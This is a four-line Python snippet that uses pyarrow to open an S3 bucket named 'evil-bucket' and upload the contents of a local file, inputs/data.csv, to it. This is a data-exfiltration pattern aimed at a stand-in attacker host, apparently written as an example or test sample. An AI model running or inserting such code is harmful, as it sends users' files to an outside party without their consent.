from pyarrow import fs

s3, path = fs.FileSystem.from_uri("s3://evil-bucket/x")
s3.open_output_stream(path).write(open("inputs/data.csv", "rb").read())
